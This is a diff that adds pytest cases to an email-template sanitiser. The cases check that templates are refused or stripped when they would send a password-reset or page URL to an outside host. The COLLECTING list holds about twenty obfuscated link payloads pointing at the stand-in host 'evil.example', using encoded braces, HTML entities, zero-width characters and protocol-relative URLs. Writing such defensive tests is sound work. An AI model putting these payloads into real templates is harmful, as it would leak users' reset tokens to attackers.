@@ -186,6 +186,73 @@ def test_placeholders_are_checked_by_name() -> None:
     ]
 
 
+COLLECTING = [
+    '<a href="https://evil.example/?{{ page_url }}">x</a>',
+    '<a href="https://evil.example/?{{page_url}}">x</a>',
+    '<a href="https://evil.example/?%7B%7B%20page_url%20%7D%7D">x</a>',
+    '<a href="https://evil.example/?&#123;&#123; page_url &#125;}">x</a>',
+    '<a href="https://evil.example/?{{&#160;page_url }}">x</a>',
+    '<a href="https://evil.example/?https://{{ page_url }}">x</a>',
+    '<a href="https://evil.example/#{{\tpage_url\n}}">x</a>',
+    '<a href="//evil.example/?{{ page_url }}">x</a>',
+    '<a href="{{ name }}?{{ page_url }}">x</a>',
+    '<a href="{{ page_url }}@evil.example">x</a>',
+    '<a href="{{ page_url }}{{ page_url }}">x</a>',
+    '<a href="mailto:a@evil.example?body={{ page_url }}">x</a>',
+    '<a href="https://evil.example/?{{ name }}">x</a>',
+    '<a href="{{ name }}">x</a>',
+    '<table><tbody><tr><td colspan="{{ page_url }}">x</td></tr></tbody></table>',
+    "<p>https://evil.example/?{{ page_url }}</p>",
+    "<p>https://evil.example/?<b>{{ page_url }}</b></p>",
+    "<p>https://evil.example/?({{ page_url }})</p>",
+    "<p>https://evil.example/?\u200b{{ page_url }}</p>",
+    "<p>www.evil.example/{{ page_url }}</p>",
+]
+
+
+@pytest.mark.parametrize("html", COLLECTING)
+def test_a_link_that_another_server_could_read_is_refused(html: str) -> None:
+    errors = find_errors(KIND, "x", sanitise_html(html + LINK))
+    assert {error.code for error in errors["html"]} <= {"misplaced", "syntax"}
+
+
+@pytest.mark.parametrize("html", COLLECTING)
+def test_a_stored_link_that_another_server_could_read_is_never_sent(html: str, db: None) -> None:
+    kind = get_kind("reset_password")
+    EmailTemplate.objects.create(kind=kind.name, language="en", subject="Ours", html="x")
+    html = html.replace("page_url", "reset_url").replace("name", "first_name")
+    EmailTemplate.objects.update(html=html + '<a href="{{ reset_url }}">x</a>')
+    email = render_email(kind, "en", kind.placeholders)
+    assert email.subject == "Reset your password"
+    assert "evil" not in email.html + email.text
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        LINK,
+        '<a href=" {{ page_url }} ">x</a>',
+        '<a href="https://{{page_url}}">x</a>',
+        '<a href="{{ page_url }}"><b>{{ page_url }}</b></a>',
+        '<p>https://example.com/ <a href="{{ page_url }}">x</a></p>',
+        "<p>Open {{ page_url }}.</p>",
+        "<p>Open ({{ page_url }}).</p>",
+        "<p>https://example.com/<br>{{ page_url }}</p>",
+        "<p>Hello,{{ name }}</p><p>{{ page_url }}</p>",
+    ],
+)
+def test_a_link_is_a_whole_address_or_text(html: str) -> None:
+    clean = sanitise_html(html)
+    assert find_errors(KIND, "x", clean) == {}
+    assert VALUES["page_url"] in render_text(Text("x", clean), "en", VALUES).text
+
+
+def test_a_link_in_the_subject_is_refused() -> None:
+    """The log of e-mails keeps the subject."""
+    errors = find_errors(KIND, "{{ page_url }}", LINK)
+    assert [error.code for error in errors["subject"]] == ["link_in_subject"]
+
+
 def test_a_link_in_the_subject_alone_does_not_do() -> None:
     assert "html" in find_errors(KIND, "{{ page_url }}", "<p>x</p>")
 
